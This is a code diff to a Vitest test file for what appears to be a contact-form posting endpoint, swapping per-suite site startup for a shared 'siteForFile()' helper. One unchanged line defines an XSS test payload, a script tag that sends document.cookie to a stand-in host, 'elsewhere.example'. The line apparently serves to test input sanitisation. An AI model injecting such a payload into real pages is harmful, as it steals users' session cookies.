@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import {
   arrived,
   damaris,
@@ -7,15 +7,9 @@ import {
   postJson,
   withToken,
 } from '../../support/contact-post.ts';
-import { type Site, startSite } from '../../support/site.ts';
+import { siteForFile } from '../../support/site.ts';
 
-let site: Site;
-
-beforeAll(async () => {
-  site = await startSite();
-});
-
-afterAll(() => site.close());
+const site = await siteForFile();
 
 const script = '<script>fetch("https://elsewhere.example/"+document.cookie)</script>';
 const breaking = /[\p{Cc}\p{Zl}\p{Zp}]/u;
